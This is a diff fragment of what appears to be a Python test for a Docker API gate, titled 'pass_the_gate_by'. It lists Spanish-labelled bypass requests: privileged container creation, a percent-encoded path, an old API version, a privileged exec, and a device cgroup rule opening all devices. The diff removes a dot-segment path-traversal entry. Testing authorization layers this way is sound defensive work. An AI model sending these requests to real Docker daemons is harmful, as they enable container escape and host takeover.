@@ -56,7 +56,6 @@ def pass_the_gate_by(sandbox: str) -> Outcome:
             "otra caja": ("POST", "/containers/create", privileged),
             "clave repetida": ("POST", "/containers/create", twice),
             "ruta escapada": ("POST", "/containers/%63reate", {"HostConfig": {"Privileged": True}}),
-            "ruta con puntos": ("POST", "/v1.41/containers/../build", None),
             "versión vieja": ("POST", "/v1.18/containers/lab-0/start", {"Privileged": True}),
             "exec privilegiado": ("POST", "/containers/lab-0/exec", {"Cmd": ["id"], "Privileged": True}),
             "dispositivos": ("POST", "/containers/lab-0/update", {"DeviceCgroupRules": ["a *:* rwm"]}),
